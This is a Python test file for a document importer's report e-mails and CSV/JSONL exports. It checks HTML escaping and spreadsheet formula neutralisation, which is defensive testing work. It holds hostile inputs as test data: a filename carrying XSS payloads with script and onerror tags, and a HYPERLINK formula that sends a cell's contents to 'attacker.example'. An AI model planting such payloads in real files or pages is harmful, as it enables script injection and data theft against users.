"""The reports a person reads: the batch e-mail (plain text and HTML) and the CSV export.

One real import (gearmand, a worker, a real SMTP server) of a good PDF, a broken one, a
broken one whose name is full of HTML, and a PDF whose text starts with a spreadsheet
formula; then what the e-mail and `importer export --format csv` say is checked against
the database. The list cap and the formula guard are checked on rows written straight
into a database, with names no file system would take.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import uuid
from dataclasses import dataclass, field
from datetime import timedelta
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path

from reportlab.pdfgen.canvas import Canvas
from sqlalchemy import select

from importer.db import Batch, Document, open_database
from importer.db.models import utcnow
from importer.export import write
from importer.mail import send_message
from importer.notify import LISTED, DocumentSummary, batch_message, document_message
from importer.states import DocStatus
from importer.summaries import batch_summary
from tests.conftest import SAMPLES, importer, settings_from, submit_json
from tests.smtp_fixture import Server

ESC = "\x1b"
HOSTILE = f"<script>alert(1)<b>&amp;\"q'<img src=x onerror=alert(2)>\u202eevil{ESC}[2J.pdf"
# how the reports show it: control and bidi characters written out, nothing else changed
HOSTILE_SHOWN = "<script>alert(1)<b>&amp;\"q'<img src=x onerror=alert(2)>\\u202eevil\\x1b[2J.pdf"
FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"Open")'
CSV_HEADER = [
    *("batch_id", "path", "sha256", "status", "pages", "text", "error", "job_id", "archive"),
    *("pages_text_layer", "pages_ocr", "mean_confidence", "pages_review", "attempts", "seconds"),
]
# what the templates write: anything else in the parsed tree came from outside
TAGS = {
    *("html", "head", "meta", "title", "body", "div", "h1", "h2", "p", "span", "br"),
    *("table", "thead", "tbody", "tr", "th", "td", "ul", "li"),
}
ATTRIBUTES = {"lang", "charset", "name", "content", "style", "role", "scope"}
MAIL_FROM = "importer@localhost"
FAILED_HEADERS = ("File", "Status", "Kind", "Reason")
REVIEW_HEADERS = ("File", "Pages to review", "Pages")


@dataclass
class Page(HTMLParser):
    """The parsed HTML part: every tag and attribute, the visible text, the tables' cells."""

    tags: set[str] = field(default_factory=set)
    attributes: set[str] = field(default_factory=set)
    text: list[str] = field(default_factory=list)
    rows: list[list[str]] = field(default_factory=list)
    _cell: list[str] | None = None

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)
        if tag == "tr":
            self.rows.append([])
        elif tag in ("td", "th"):
            self._cell = []
        elif tag == "br" and self._cell is not None:
            self._cell.append("\n")

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._cell is not None:
            self.rows[-1].append("".join(self._cell))
            self._cell = None

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if self._cell is not None:
            self._cell.append(data)

    @property
    def visible(self) -> str:
        return "".join(self.text)

    def facts(self) -> dict[str, str]:
        """The summary table: label -> value."""
        return {row[0]: row[1] for row in self.rows if len(row) == 2}

    def table(self, *headers: str) -> list[list[str]]:
        """The rows under the header row `headers`, up to the next header row."""
        start = self.rows.index(list(headers))
        out = []
        for row in self.rows[start + 1 :]:
            if len(row) != len(headers) or row[0] == "File":
                break
            out.append(row)
        return out


def parts(message: EmailMessage) -> tuple[str, Page]:
    assert message.get_content_type() == "multipart/alternative"
    types = [part.get_content_type() for part in message.iter_parts()]
    assert types == ["text/plain", "text/html"]
    plain, html = (str(part.get_content()) for part in message.iter_parts())
    page = Page()
    page.feed(html)
    page.close()
    assert page.tags <= TAGS, page.tags - TAGS
    assert page.attributes <= ATTRIBUTES, page.attributes - ATTRIBUTES
    assert "http" not in html and "url(" not in html  # nothing fetched from outside
    return plain, page


def formula_pdf(path: Path) -> Path:
    """A born-digital page whose text starts with a formula a spreadsheet would run."""
    canvas = Canvas(str(path))
    lines = [FORMULA, "Quarterly report of the archive.", "Every line here is real text."]
    for number, line in enumerate(lines):
        canvas.drawString(72, 720 - 20 * number, line)
    canvas.save()
    return path


def test_a_real_batch_reports_the_same_in_mail_text_html_and_csv(
    tmp_path: Path, env: dict[str, str], smtp_server: Server
) -> None:
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    shutil.copy(SAMPLES / "born_digital.pdf", inbox)
    shutil.copy(SAMPLES / "broken.pdf", inbox)
    (inbox / HOSTILE).write_bytes((SAMPLES / "broken.pdf").read_bytes() + b"\n%hostile\n")
    formula_pdf(inbox / "formula.pdf")
    env["IMPORTER_MAIL_URL"] = f"smtp://{smtp_server.host}:{smtp_server.port}"
    batch = submit_json(inbox, env)["batch_id"]
    importer("worker", "--burst", "--concurrency", "2", env=env, check=True)

    db = open_database(settings_from(env).resolved_database_url)
    with db.session() as s:
        docs = {Path(d.path).name: d for d in s.scalars(select(Document))}
    assert docs["born_digital.pdf"].status == docs["formula.pdf"].status == DocStatus.done
    failed = {name: d for name, d in docs.items() if d.status == DocStatus.failed}
    assert set(failed) == {"broken.pdf", HOSTILE}

    [received] = smtp_server.received  # exactly one e-mail for the batch
    check_mail(received.message, batch, docs)
    check_export(env, batch, docs)


def check_mail(message: EmailMessage, batch: str, docs: dict[str, Document]) -> None:
    """The HTML part's tables and the plain text say what the database says."""
    failed = {name: d for name, d in docs.items() if d.status == DocStatus.failed}
    plain, page = parts(message)
    pages = sum(d.pages_done for d in docs.values())
    facts = page.facts()
    assert facts["Documents"] == "4" and facts["Imported"] == "2"
    assert facts["Failed"] == "2" and facts["Dead (out of attempts)"] == "0"
    assert facts["Pages imported"] == str(pages)
    assert facts["Pages from the text layer"] == str(sum(d.pages_text_layer for d in docs.values()))
    assert facts["Pages read by OCR"] == str(sum(d.pages_ocr for d in docs.values()))
    assert facts["Pages to review"] == "0"
    assert facts["Started"].endswith(" UTC") and facts["Finished"].endswith(" UTC")
    assert facts["Duration"].endswith(" s")
    listed = {Path(row[0]).name: row[1:] for row in page.table(*FAILED_HEADERS)}
    assert set(listed) == {"broken.pdf", HOSTILE_SHOWN}
    for name, doc in failed.items():
        assert doc.error
        row = listed["broken.pdf" if name == "broken.pdf" else HOSTILE_SHOWN]
        assert row == ["failed", doc.error_kind or "", doc.error]
    assert HOSTILE_SHOWN in page.visible and "corrupt PDF" in page.visible
    assert "script" not in page.tags and "img" not in page.tags
    assert "onerror" not in page.attributes and "src" not in page.attributes

    assert f"2 of 4 documents, {pages} pages" in plain
    assert "Failed:    2 (2 failed)" in plain
    for doc in failed.values():
        assert doc.error and doc.error in plain
    assert HOSTILE_SHOWN in plain and ESC not in plain and "\u202e" not in plain
    assert f"importer status {batch}" in plain and f"importer retry {batch}" in plain


def check_export(env: dict[str, str], batch: str, docs: dict[str, Document]) -> None:
    """CSV: the documents' own figures, formulas shown as text; jsonl: the documented keys."""
    exported = importer("export", batch, "--format", "csv", env=env, check=True).stdout
    reader = csv.DictReader(io.StringIO(exported))
    assert reader.fieldnames == CSV_HEADER
    rows = {Path(row["path"]).name: row for row in reader}
    assert set(rows) == set(docs)
    for name, doc in docs.items():
        row = rows[name]
        assert row["path"] == doc.path and row["error"] == (doc.error or "")
        assert int(row["pages_text_layer"]) == doc.pages_text_layer
        assert int(row["pages_ocr"]) == doc.pages_ocr
        assert int(row["pages_review"]) == doc.pages_review
        assert int(row["attempts"]) == doc.attempts == 1
        confidence = doc.mean_confidence
        assert row["mean_confidence"] == ("" if confidence is None else str(confidence))
        assert doc.started_at and doc.finished_at
        assert float(row["seconds"]) > 0
    born = rows["born_digital.pdf"]
    assert int(born["pages_text_layer"]) == docs["born_digital.pdf"].pages_done > 0
    assert int(born["pages_ocr"]) == 0
    assert rows["formula.pdf"]["text"].startswith("'" + FORMULA)  # shown as text, not run

    jsonl = importer("export", batch, "--format", "jsonl", env=env, check=True).stdout
    keys = {"batch_id", "path", "sha256", "status", "pages", "text", "error", "job_id", "archive"}
    assert all(set(json.loads(line)) == keys for line in jsonl.splitlines())
    texts = {Path(r["path"]).name: r["text"] for r in map(json.loads, jsonl.splitlines())}
    assert texts["formula.pdf"].startswith(FORMULA)  # JSON is no spreadsheet: kept as read


def _stored_batch(tmp_path: Path, docs: list[Document]) -> tuple[str, str]:
    """A finished batch of `docs` in a new SQLite database: (database URL, batch id)."""
    url = f"sqlite:///{tmp_path / 'reports.db'}"
    db = open_database(url)
    batch = f"b-{uuid.uuid4().hex[:12]}"
    finished = utcnow()
    with db.session() as s:
        s.add(Batch(id=batch, email="ops@example.com", total=len(docs), finished_at=finished))
        s.flush()
        for doc in docs:
            doc.batch_id = batch
            doc.job_id = doc.job_id or f"j-{uuid.uuid4().hex}"
            doc.sha256 = doc.sha256 or doc.job_id
            s.add(doc)
    with db.session() as s:
        stored = s.get(Batch, batch)
        assert stored is not None
        stored.created_at = finished - timedelta(minutes=3, seconds=12)
    return url, batch


def test_a_large_batch_lists_up_to_the_cap_and_names_the_command(
    tmp_path: Path, smtp_server: Server
) -> None:
    more = 7
    failed = [
        Document(path=f"/in/f{i:05}.pdf", status=DocStatus.failed, error=f"bad {i}")
        for i in range(LISTED + more)
    ]
    review = [
        Document(path=f"/in/r{i}.pdf", status=DocStatus.done, pages_done=9, pages_review=i + 1)
        for i in range(3)
    ]
    url, batch = _stored_batch(tmp_path, [*failed, *review])
    message = batch_message(batch_summary(open_database(url), batch), mail_from=MAIL_FROM)
    send_message(message, f"smtp://{smtp_server.host}:{smtp_server.port}", timeout=30)
    [received] = smtp_server.received
    plain, page = parts(received.message)

    facts = page.facts()
    assert facts["Failed"] == f"{LISTED + more:,}" and facts["Pages to review"] == "6"
    listed = page.table(*FAILED_HEADERS)
    assert [row[0] for row in listed] == [f"/in/f{i:05}.pdf" for i in range(LISTED)]
    assert page.table(*REVIEW_HEADERS) == [[f"/in/r{i}.pdf", str(i + 1), "9"] for i in range(3)]
    note = f"and {more} more, not listed here: importer status {batch} --all"
    assert note in " ".join(page.visible.split())
    assert f"/in/f{LISTED - 1:05}.pdf" in plain and f"/in/f{LISTED:05}.pdf" not in plain
    assert f"and {more} more, not listed here; every document with its reason:" in plain
    assert f"\n      importer status {batch} --all\n" in plain.replace("\r\n", "\n")
    assert f"Failed:    {LISTED + more:,} ({LISTED + more:,} failed)" in plain
    assert "/in/r2.pdf: 3 of 9 pages" in plain

    few = batch_message(batch_summary(open_database(url), batch, listed=2), mail_from=MAIL_FROM)
    plain, page = parts(few)
    assert "and 1 more, not listed here; every page to review:\n" in plain
    assert f"\n      importer export {batch} --review\n" in plain
    assert f"importer export {batch} --review" in " ".join(page.visible.split())


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path: Path) -> None:
    hostile = ["=1+2", "+SUM(A1)", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
    docs = [
        Document(path=text, status=DocStatus.failed, error=text, attempts=2) for text in hostile
    ]
    plain = Document(path="/in/a-b.pdf", status=DocStatus.queued, error=None)
    url, _ = _stored_batch(tmp_path, [*docs, plain])
    out = io.StringIO(newline="")
    assert write(open_database(url), out, "csv") == len(hostile) + 1
    rows = {row["job_id"]: row for row in csv.DictReader(io.StringIO(out.getvalue()))}
    for doc in docs:
        row = rows[doc.job_id]
        assert row["path"] == row["error"] == "'" + doc.path
        assert row["attempts"] == "2" and row["seconds"] == ""
    assert rows[plain.job_id]["path"] == "/in/a-b.pdf" and rows[plain.job_id]["error"] == ""


def test_a_document_mail_says_the_same_in_both_parts() -> None:
    """`--notify each`: the same two parts, the same escaping."""
    summary = DocumentSummary(
        batch_id="b-1",
        job_id="j-1",
        email="ops@example.com",
        path=f"/in/{HOSTILE}",
        status=DocStatus.failed,
        pages=0,
        error='not a PDF: <img src=x onerror="alert(3)">\nsecond line',
        seconds=2.5,
        error_kind="not-pdf",
    )
    plain, page = parts(document_message(summary, mail_from=MAIL_FROM))
    facts = page.facts()
    assert facts["File"] == f"/in/{HOSTILE_SHOWN}" and facts["Status"] == "failed"
    assert facts["Kind"] == "not-pdf" and facts["Duration"] == "2 s"
    assert facts["Reason"] == 'not a PDF: <img src=x onerror="alert(3)">\nsecond line'
    assert f"/in/{HOSTILE_SHOWN}" in plain and "Kind:    not-pdf" in plain
    assert 'onerror="alert(3)">\n           second line' in plain
